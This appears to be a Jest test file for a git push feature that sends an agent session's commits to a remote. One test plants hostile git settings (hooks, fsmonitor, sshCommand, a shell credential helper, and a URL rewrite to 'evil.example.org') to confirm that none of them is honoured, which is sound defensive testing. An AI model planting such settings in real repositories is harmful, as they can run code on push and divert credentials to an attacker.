import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeGitRepository, runGit, startGitHost, type GitHost } from '@chirality/testing';
import { RemoteFixture } from '../../../test/remote-fixture';
import { describeAsOrdinaryUser } from '../../../test/sandbox-host';
import { buildProjectRecord, WorkspaceFixture } from '../../../test/workspace-fixture';
import { commitFiles } from '../history/commit-files';
import type { ActContext } from '../act/act-context';
import type { ProjectRepositories } from '../project/project-repositories';
import type { ProjectRecord } from '../project/project.types';
import { WorkspaceMaker } from '../session/workspace-maker';
import { RemotePush } from './remote-push';

jest.setTimeout(60_000);

const ADA = { name: 'Ada', email: 'ada@example.com' };
const WHO = { teamId: 'team_1', userId: 'user_1' };

describeAsOrdinaryUser('pushing a session to its remote', () => {
  let fixture: WorkspaceFixture;
  let host: GitHost;
  let remote: RemoteFixture;
  let projects: ProjectRepositories;
  let project: ProjectRecord;
  let context: ActContext;
  let made = 0;

  beforeAll(async () => {
    host = await startGitHost();
  });
  afterAll(() => host.close());
  beforeEach(async () => {
    made += 1;
    fixture = new WorkspaceFixture();
    remote = new RemoteFixture(fixture, host);
    projects = fixture.projects('a');
    mkdirSync(join(host.directory, 'private'), { recursive: true });
    makeGitRepository(bare(), [{ 'a.txt': '1' }]);
    runGit(bare(), ['config', 'http.receivepack', 'true']);
    host.signIn = 'ada:s3cret-t0ken';
    remote.account = {
      id: 'gitacc_1',
      scope: 'user',
      host: 'h',
      kind: 'token',
      username: 'ada',
      secret: 's3cret-t0ken',
    };
    project = buildProjectRecord({ source: { kind: 'git', url: url() }, bundleKey: 'first.bundle' });
    const stopped = new AbortController().signal;
    await projects.storeBundle('first.bundle', (directory) =>
      remote
        .remotes()
        .fetch({ ...WHO, projectId: project.id, url: url(), directory, stopped, onProgress: () => undefined }),
    );
    const repository = await projects.ensure(project);
    const workspace = { workspace: fixture.path('w'), snapshot: fixture.path('s'), objects: repository.objects };
    for (const path of [workspace.workspace, workspace.snapshot]) mkdirSync(path);
    writeFileSync(fixture.path('lock'), '');
    await new WorkspaceMaker(fixture.scripts).create(workspace, repository.baseCommit, 'chirality/s');
    context = {
      scripts: fixture.scripts,
      workspace: { ...workspace, baseCommit: repository.baseCommit, lockFile: fixture.path('lock') },
      timeoutMs: 10_000,
    };
  });
  afterEach(async () => {
    await remote.close();
    await fixture.close();
  });

  const bare = () => join(host.directory, 'private', `p${made}.git`);
  const url = () => host.url(`private/p${made}.git`);
  const commit = async (text: string) => {
    await agent(`echo ${text} > ${text}.txt`);
    return commitFiles(context, { message: `Add ${text}`, author: ADA });
  };
  const agent = (text: string) =>
    fixture.scripts.run({
      text: `cd "$W"; ${text}`,
      mounts: { workspace: context.workspace.workspace, objects: context.workspace.objects },
      timeoutMs: 10_000,
      maxOutputBytes: 10_000,
    });
  type Choice = { branch?: string; isChosen?: boolean; lease?: string | null; timeoutMs?: number };
  const push = async ({ branch = 'chirality/fix', isChosen = false, lease = null, timeoutMs = 20_000 }: Choice = {}) =>
    new RemotePush({ remotes: remote.remotes(), scripts: fixture.scripts, projects }).push({
      projectId: project.id,
      who: WHO,
      url: url(),
      repository: await projects.ensure(project),
      workspace: context.workspace,
      branch,
      isChosen,
      lease,
      timeoutMs,
    });
  const has = (branch: string) => runGit(bare(), ['rev-parse', `refs/heads/${branch}`]);
  const hook = (name: string, text: string) => {
    writeFileSync(join(bare(), 'hooks', name), `#!/bin/sh\n${text}\n`);
    chmodSync(join(bare(), 'hooks', name), 0o755);
  };
  const failure = (code: string, detail: RegExp = /./) => ({
    failure: { code, detail: expect.stringMatching(detail) as string },
  });

  it('sends the commits under the branch, in the person’s name, and answers what the remote has', async () => {
    await commit('one');
    const second = await commit('two');
    await agent('echo draft > draft.txt');
    expect(await push()).toEqual({ pushed: { branch: 'chirality/fix', commit: second, remote: url() }, isNew: true });
    expect(has('chirality/fix')).toBe(second);
    expect(runGit(bare(), ['log', '-2', '--format=%an <%ae> %cn %s', 'chirality/fix'])).toBe(
      'Ada <ada@example.com> Ada Add two\nAda <ada@example.com> Ada Add one',
    );
    expect(runGit(bare(), ['ls-tree', '--name-only', 'chirality/fix'])).toBe('a.txt\none.txt\ntwo.txt');
    // The same again changes nothing, as after an answer that was lost.
    expect(await push()).toMatchObject({ pushed: { commit: second }, isNew: false });
  });

  it('has nothing to push before a commit', async () => {
    await agent('echo draft > draft.txt');
    await expect(push()).rejects.toMatchObject(failure('GIT_NOTHING_TO_PUSH', /Commit its changes first/));
    expect(host.requests.filter((request) => request.includes(`p${made}.git/git-receive-pack`))).toEqual([]);
  });

  it('takes another name where a pattern’s is taken, and never another’s branch', async () => {
    runGit(bare(), ['branch', 'chirality/fix', 'main']);
    const theirs = has('chirality/fix');
    const mine = await commit('one');
    expect(await push()).toMatchObject({ pushed: { branch: 'chirality/fix-2', commit: mine } });
    expect(has('chirality/fix')).toBe(theirs);
  });

  it('forces nothing unless it is asked to, and then only over what it pushed', async () => {
    const first = await commit('one');
    await push();
    await agent(
      'GIT_AUTHOR_NAME=A GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=A GIT_COMMITTER_EMAIL=a@b git commit -q --amend -m Again',
    );
    const chosen = { isChosen: true };
    await expect(push(chosen)).rejects.toMatchObject(failure('GIT_PUSH_REJECTED', /commits that this session lacks/));
    expect(has('chirality/fix')).toBe(first);
    await expect(push({ ...chosen, lease: 'f'.repeat(40) })).rejects.toMatchObject(
      failure('GIT_PUSH_REJECTED', /Nothing was replaced/),
    );
    const forced = await push({ ...chosen, lease: first });
    expect(has('chirality/fix')).toBe(forced.pushed.commit);
  });

  it('says what a hook says, without the token and without what moves a cursor', async () => {
    await commit('one');
    hook('pre-receive', 'printf "\\033[31mNo ticket\\007 for s3cret-t0ken\\n"; exit 1');
    await expect(push()).rejects.toMatchObject(failure('GIT_PUSH_REJECTED', /It says: No ticket for \S+$/));
    await push().catch((error: Error) => expect(error.message).not.toContain('s3cret'));
    hook('pre-receive', 'echo "GH006: Protected branch update failed"; exit 1');
    await expect(push()).rejects.toMatchObject(failure('GIT_PROTECTED_BRANCH'));
    hook('pre-receive', 'echo "File x is 120 MB; this exceeds the file size limit"; exit 1');
    await expect(push()).rejects.toMatchObject(failure('GIT_TOO_LARGE'));
  });

  it('says that the account is not accepted, or that the host stalls', async () => {
    await commit('one');
    runGit(bare(), ['config', 'http.receivepack', 'false']);
    await expect(push()).rejects.toMatchObject(failure('GIT_AUTH_FAILED'));
    host.signIn = 'ada:another';
    await expect(push()).rejects.toMatchObject(failure('GIT_AUTH_FAILED', /did not accept your token/));
    host.signIn = 'ada:s3cret-t0ken';
    runGit(bare(), ['config', 'http.receivepack', 'true']);
    const { release } = host.hold(`/private/p${made}.git/git-receive-pack`);
    await expect(push({ timeoutMs: 2_000 })).rejects.toMatchObject(failure('GIT_HOST_UNREACHABLE'));
    release();
  });

  it('runs nothing that the session’s repository is configured to run', async () => {
    await commit('one');
    await agent(
      'mkdir -p .git/hooks; printf "#!/bin/sh\\ntouch $W/ran\\n" > .git/hooks/pre-push; chmod +x .git/hooks/pre-push; git config core.fsmonitor "touch $W/ran"; git config url."https://evil.example.org/".insteadOf "https://"; git config core.sshCommand "touch $W/ran"; git config credential.helper "!touch $W/ran"; git config remote.pushDefault evil',
    );
    expect(await push()).toMatchObject({ isNew: true });
    expect((await agent('ls -a')).stdout.toString()).not.toContain('ran');
  });
});
